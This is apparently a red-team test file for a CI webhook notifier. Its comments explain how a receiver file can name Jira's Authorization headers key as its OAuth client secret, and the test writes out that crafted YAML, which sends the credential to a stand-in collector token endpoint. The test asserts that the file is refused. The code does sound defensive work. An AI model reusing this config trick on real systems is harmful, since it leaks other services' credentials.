import * as assert from "node:assert/strict";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import { loadReceivers, type ReadConfig } from "../src/loadReceivers";
import { buildEvent } from "./support/buildEvents";
import { deployNotifier, type DeployedNotifier } from "./support/deployedNotifier";
import { startReceiver, type Receiver } from "./support/receivers";

// Breaks docs/security.md, "One origin per key": "A receiver's URL, headers, body secrets, signature and
// bearer token go to its URL's origin ...; its OAuth client ID and secret go to its token URL's origin.
// Every config key a receiver names ... serves that receiver, and preview refuses files that make one key
// serve receivers whose URLs have two origins, or, for a key under oauth, whose token URLs have two
// origins"; and docs/receivers.md: "a Slack receiver may not name [Jira's headers key]".
//
// src/credentialOrigins.ts compares token URLs only among the receivers that name a key *under oauth*.
// A new file naming Jira's headers key as its oauth.clientSecret (and Jira's own URL key as its url, so
// the URL origins agree) is the first and only receiver naming that key under oauth: nothing to compare
// its token URL with. Preview passes, and the notifier posts Jira's Authorization header, as the "client
// secret", to a token endpoint of the file writer's choosing. (The same works with oauth.clientId, and
// with Slack's URL key, whose value is its token.)

const JIRA_AUTH = '{"Authorization": "Basic amlyYS1ib3RAZXhhbXBsZS5jb206QVRBVFQzeEZmR0YwU0VDUkVU"}';
const JIRA_TOKEN = "amlyYS1ib3RAZXhhbXBsZS5jb206QVRBVFQzeEZmR0YwU0VDUkVU";

const JIRA_FILE =
  "projects: [my-app]\nstatuses: [FAILED]\nurl: { secret: jiraIssuesUrl }\nheaders: { secret: jiraAuthHeaders }\n";
/** The file someone who may add receiver files adds: Jira's URL key, and Jira's headers as a client secret. */
const TRACKER_FILE =
  "projects: [my-app]\nstatuses: [FAILED]\nurl: { secret: jiraIssuesUrl }\noauth:\n" +
  "  tokenUrl: { secret: trackerTokenUrl }\n  clientId: { secret: trackerClientId }\n" +
  "  clientSecret: { secret: jiraAuthHeaders }\n";

function folder(): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "receivers-"));
  fs.writeFileSync(path.join(dir, "jira.yaml"), JIRA_FILE);
  fs.writeFileSync(path.join(dir, "tracker.yaml"), TRACKER_FILE);
  return dir;
}

describe("red team: another receiver's credentials as an OAuth client secret", () => {
  it("preview refuses a file naming Jira's headers key as its oauth.clientSecret with a token URL of another origin", () => {
    const dir = folder();
    const config: Record<string, string> = {
      jiraIssuesUrl: "https://example.atlassian.net/rest/api/2/issue",
      jiraAuthHeaders: JIRA_AUTH,
      trackerTokenUrl: "https://collector.example.net/oauth/token",
      trackerClientId: "tracker",
    };
    const readConfig: ReadConfig = (key) =>
      key in config ? { value: config[key], secret: true } : undefined;
    try {
      let refused = false;
      try {
        loadReceivers(dir, readConfig, { relativeTo: dir });
      } catch {
        refused = true;
      }
      assert.ok(
        refused,
        "preview accepted tracker.yaml, which sends jiraAuthHeaders (Jira's Authorization) to https://collector.example.net",
      );
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });

  describe("deployed", () => {
    let dir: string;
    let jira: Receiver;
    let collector: Receiver;
    let stack: DeployedNotifier | undefined;
    let deployError: unknown;

    before(async () => {
      dir = folder();
      jira = await startReceiver([{ status: 201 }]);
      collector = await startReceiver([
        {
          status: 200,
          headers: { "Content-Type": "application/json" },
          body: JSON.stringify({ access_token: "t", token_type: "Bearer", expires_in: 3600 }),
        },
      ]);
      const config = {
        receiversDir: dir,
        jiraIssuesUrl: jira.url,
        jiraAuthHeaders: JIRA_AUTH,
        trackerTokenUrl: `${collector.url}/oauth/token`,
        trackerClientId: "tracker",
      };
      const secretKeys = Object.keys(config)
        .filter((key) => key !== "receiversDir")
        .map((key) => `codebuild-webhooks:${key}`);
      try {
        stack = await deployNotifier(config, secretKeys);
      } catch (error) {
        deployError = error;
      }
    });

    after(async () => {
      await Promise.all([jira, collector].map((server) => server?.close()));
      await stack?.close();
      fs.rmSync(dir, { recursive: true, force: true });
    });

    it("never sends Jira's Authorization to the token endpoint of another origin", async () => {
      if (!stack) {
        // Refused at deploy time: what the promise asks for.
        assert.ok(deployError);
        return;
      }
      await stack.lambda.invoke(buildEvent("FAILED", "my-app"), { timeoutMs: 5000 });
      const seen = collector.requests.map(
        (request) =>
          `${request.headers.authorization ?? ""} ${decodeURIComponent(request.body.replace(/\+/g, " "))}` +
          ` ${Buffer.from((request.headers.authorization ?? "").replace(/^Basic /, ""), "base64").toString()}`,
      );
      assert.ok(
        !seen.some((text) => text.includes(JIRA_TOKEN)),
        `the collector (another origin than Jira's) received Jira's Authorization: ${JSON.stringify(seen)}`,
      );
    });
  });
});
